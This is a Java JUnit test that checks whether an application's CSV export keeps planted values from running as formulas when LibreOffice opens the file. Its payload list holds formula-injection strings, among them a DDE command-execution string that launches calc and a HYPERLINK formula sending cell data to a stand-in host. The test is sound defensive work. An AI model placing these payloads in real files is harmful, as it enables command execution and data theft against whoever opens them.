package io.gracefulno.casebook;

import static io.gracefulno.store.Cases.NOW;
import static io.gracefulno.store.Cases.ROBIN;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import io.gracefulno.letter.Fact;
import io.gracefulno.letter.Facts;
import io.gracefulno.preferences.Personal;
import io.gracefulno.wording.Library;
import java.io.ByteArrayOutputStream;
import java.io.File;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.concurrent.TimeUnit;
import java.util.regex.MatchResult;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/** A real spreadsheet program opens the table of an export, as each locale separates cells, and runs nothing of it. */
class CsvInLibreOfficeTest {
    private static final String MISSING =
            "No LibreOffice here. Install Debian's libreoffice-calc-nogui, or put soffice on the path.";

    private static final List<String> PLANTED = List.of(
            "=1+1",
            "=HYPERLINK(\"https://planted.example/?\"&A1;\"Press\")",
            "@SUM(1;2)",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            " =1+1",
            "\"=1+1\"",
            "\u00A0=1+1",
            "\uFEFF=1+1",
            "＝1+1",
            "＠SUM(1;2)",
            "x;=1+1;y",
            "x\t=1+1",
            "x\n=1+1",
            "x\r\n\"=1+1\"",
            "x\";\"=1+1",
            "x\n\t+1+1");

    /** The character code that the import is told. */
    enum Separator {
        COMMA(44),
        SEMICOLON(59),
        TAB(9);

        private final int code;

        Separator(int code) {
            this.code = code;
        }
    }

    private static final Pattern FORMULA = Pattern.compile("table:formula=\"([^\"]*)\"");
    private static final Pattern CELL =
            Pattern.compile("<table:table-cell[^>]*>(.*?)</table:table-cell>", Pattern.DOTALL);

    @TempDir
    private Path folder;

    private static Optional<Path> office() {
        return Stream.of(System.getenv().getOrDefault("PATH", "").split(File.pathSeparator))
                .map(place -> Path.of(place, "soffice"))
                .filter(Files::isExecutable)
                .findFirst();
    }

    @BeforeEach
    void look() {
        if (office().isEmpty() && System.getProperty("libreoffice", "").equals("required")) {
            throw new AssertionError(MISSING);
        }
        Assumptions.assumeTrue(office().isPresent(), MISSING);
    }

    /** The table as the program has it after opening it, as XML. */
    private String opened(byte[] csv, Separator separator) throws IOException, InterruptedException {
        Files.write(folder.resolve("table.csv"), csv);
        // Quoted by ", UTF-8, from the first line; numbers and formulas are found as by whoever opens it.
        String filter =
                "Text - txt - csv (StarCalc):" + separator.code + ",34,76,1,,0,false,true,false,false,false,-1,true";
        Process office = new ProcessBuilder(
                        office().orElseThrow().toString(),
                        "--headless",
                        "-env:UserInstallation=" + folder.resolve("profile").toUri(),
                        "--infilter=" + filter,
                        "--convert-to",
                        "fods",
                        "--outdir",
                        folder.toString(),
                        folder.resolve("table.csv").toString())
                .redirectErrorStream(true)
                .redirectOutput(folder.resolve("office.log").toFile())
                .start();
        if (!office.waitFor(120, TimeUnit.SECONDS)) {
            office.destroyForcibly().waitFor();
        }
        return Files.readString(folder.resolve("table.fods"), UTF_8);
    }

    private static List<String> formulas(String xml) {
        return FORMULA.matcher(xml).results().map(found -> found.group(1)).toList();
    }

    private static byte[] exported() {
        ByteArrayOutputStream csv = new ByteArrayOutputStream();
        Export.Kept kept = new Export.Kept(Profile.unknown(ROBIN), Personal.USUAL, Optional.empty());
        Library library = Library.english();
        try (Export export = new Export(kept, NOW, library.screens()::say, OutputStream.nullOutputStream(), csv)) {
            for (String planted : PLANTED) {
                Texts texts = new Texts(planted, planted, planted);
                Writing writing = new Writing(0, texts, texts, Optional.empty(), Set.of(), List.of(), List.of());
                Intake told = Intake.of(
                                Facts.builder().text(Fact.COMPANY, planted).build())
                        .leftover(planted)
                        .address(planted);
                export.add(Case.opened("c_1", ROBIN, told, NOW).writing(writing, NOW), Set.of(), List.of());
            }
        }
        return csv.toByteArray();
    }

    /** The same words in a table of somebody who only quoted them. */
    private static byte[] careless() {
        return PLANTED.stream()
                .map(planted -> "\"x\",\"" + planted.replace("\"", "\"\"") + "\",\"y\"\r\n")
                .collect(Collectors.joining())
                .getBytes(UTF_8);
    }

    @ParameterizedTest
    @EnumSource
    void nothingThatAnybodyWroteRuns(Separator separator) throws Exception {
        assertThat(formulas(opened(careless(), separator))).as("what would run").isNotEmpty();

        String xml = opened(exported(), separator);

        assertThat(formulas(xml)).isEmpty();
        if (separator == Separator.COMMA) {
            List<String> cells =
                    CELL.matcher(xml).results().map(CsvInLibreOfficeTest::text).toList();
            assertThat(cells).contains("Company", "'=1+1", "'@SUM(1;2)", "'-2+3", "'+cmd|' /C calc'!A0");
        }
    }

    private static String text(MatchResult cell) {
        return cell.group(1)
                .replaceAll("<[^>]*>", "")
                .replace("&apos;", "'")
                .replace("&quot;", "\"")
                .replace("&amp;", "&")
                .strip();
    }
}
